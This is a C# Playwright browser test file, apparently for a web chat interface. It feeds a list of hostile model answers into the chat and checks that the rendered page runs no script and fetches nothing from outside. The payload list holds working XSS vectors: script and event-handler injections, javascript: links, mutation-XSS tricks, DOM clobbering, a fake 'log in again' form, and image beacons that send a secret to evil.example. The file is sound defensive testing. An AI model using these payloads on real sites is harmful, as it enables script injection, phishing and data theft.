using OpenWebUi.StubProvider;
using static Microsoft.Playwright.Assertions;

namespace OpenWebUi.Tests.Browser;

/// <summary>A model repeats what it has read, so an answer may hold anything. Foreign requests and dialogs fail in <see cref="BrowserTest"/>.</summary>
public sealed class HostileAnswerTests(BrowserFixture fixture) : BrowserTest(fixture)
{
    private static readonly string[] Payloads =
    [
        "<script>window.pwned = 1</script>",
        "<img src=x onerror=\"window.pwned = 1\">",
        "<svg onload=\"window.pwned = 1\"><script>window.pwned = 1</script></svg>",
        "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s></svg>",
        "<svg><use href=\"https://evil.example/a.svg#x\"></use></svg>",
        "<svg><style><img src=x onerror=window.pwned=1></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.pwned=1&gt;\">",
        "<iframe src=\"javascript:parent.pwned=1\"></iframe><iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe>",
        "<object data=\"https://evil.example/o\"></object><embed src=\"https://evil.example/e\">",
        "<details open ontoggle=\"window.pwned = 1\">x</details>",
        "<input autofocus onfocus=\"window.pwned = 1\"><form action=\"https://evil.example\"><button>log in again</button></form>",
        "<video><source onerror=\"window.pwned=1\" src=https://evil.example/v></video><audio src=https://evil.example/a autoplay></audio>",
        "<link rel=stylesheet href=https://evil.example/s.css><style>@import 'https://evil.example/i.css'; * { display: none }</style>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\"><base href=https://evil.example/>",
        "<div style=\"position:fixed;inset:0;z-index:99;background:url(https://evil.example/bg)\">session over</div>",
        "<div id=app data-testid=composer-send>clobbered</div><a name=location id=location href=https://evil.example>x</a>",
        "![beacon](https://evil.example/beacon.png?q=secret) and ![inline](//evil.example/b.gif)",
        "![data](data:image/svg+xml,<svg onload=alert(1)>) ![ref][r]\n\n[r]: https://evil.example/ref.png",
        "[click](javascript:window.pwned=1) [again](JaVaScRiPt:window.pwned=1) [tab](java\tscript:window.pwned=1) [data](data:text/html,<script>1</script>)",
        "[entity](&#106;avascript:window.pwned=1) <javascript:window.pwned=1> <a href=\" javascript:window.pwned=1\">x</a>",
        "[vb](vbscript:x) [file](file:///etc/passwd) [blob](blob:https://evil.example/1)",
        "```html\n<script>window.pwned = 1</script><img src=x onerror=window.pwned=1>\n```",
        "```\"><img src=x onerror=window.pwned=1>\ncode\n```",
        "$\\href{javascript:window.pwned=1}{x}$ and $$\\includegraphics{https://evil.example/i.png}$$ \\(\\htmlData{onclick=window.pwned=1}{x}\\)",
        "| a <img src=x onerror=window.pwned=1> |\n|---|\n| <a href=javascript:window.pwned=1>b</a> |",
        "<noscript><p title=\"</noscript><img src=x onerror=window.pwned=1>\">",
        "<a href=\"https://evil.example\" ping=\"https://evil.example/ping\" onclick=\"window.pwned=1\">fine looking</a>",
        "<template><img src=x onerror=window.pwned=1></template><xmp><img src=x onerror=window.pwned=1></xmp>",
    ];

    [Fact]
    public async Task Answers_OfEveryHostileKind_RunNothingAndFetchNothing()
    {
        // DOMPurify parses into a document without scripting; Chromium reports what the policy would have blocked there.
        Tolerates = text => text.Contains("violates the following Content Security Policy directive", StringComparison.Ordinal)
            || text is "CSP script-src-attr inline " or "CSP style-src-elem inline " or "CSP base-uri https://evil.example/ ";
        await using var stub = await StubServer.StartAsync();
        await using var site = await StartSiteAsync(("BASE_URL", stub.BaseUrl), ("OPENAI_API_KEY", "sk-site"));
        var page = await OpenAsync(site);
        foreach (var payload in Payloads)
        {
            stub.ReplyText = $"Before.\n\n{payload}\n\nThe last word.";
            await page.GetByTestId("new-chat").ClickAsync();
            await SendAsync(page, "go");
            await Expect(Answer(page, "done")).ToContainTextAsync("Before.");

            var found = await page.EvaluateAsync<string[]>(
                """
                () => {
                  const answer = [...document.querySelectorAll('[data-testid=message]')].at(-1);
                  const bad = [...answer.querySelectorAll('script,iframe,object,embed,form,link,style,meta,base,video,audio,template,[style*=fixed],[id=app],[data-testid=composer-send]')]
                    .map(e => e.outerHTML);
                  for (const e of answer.querySelectorAll('*')) {
                    for (const a of e.attributes) {
                      if (/^on|^ping$|^srcdoc$/.test(a.name)) bad.push(a.name + ' on ' + e.outerHTML);
                      if (/^(href|src|xlink:href|action)$/.test(a.name) && !/^(https?:|mailto:|#|\/assets\/)/i.test(a.value)) bad.push(a.name + '=' + a.value);
                    }
                    if (e.matches('img,image,use') && /evil/.test(e.outerHTML)) bad.push(e.outerHTML);
                    if (e.matches('a[href^=http]') && !/noopener|noreferrer/.test(e.rel)) bad.push('no rel: ' + e.outerHTML);
                  }
                  if (window.pwned) bad.push('a script ran');
                  return bad;
                }
                """);
            Assert.True(found.Length == 0, $"{payload}\nleft in the page:\n{string.Join('\n', found)}");
            await Expect(page.GetByTestId("composer-send")).ToHaveCountAsync(1);
        }

        await page.ReloadAsync();
        await Expect(Answer(page, "done")).ToBeVisibleAsync();
        Assert.False(await page.EvaluateAsync<bool>("() => 'pwned' in window"));
    }
}
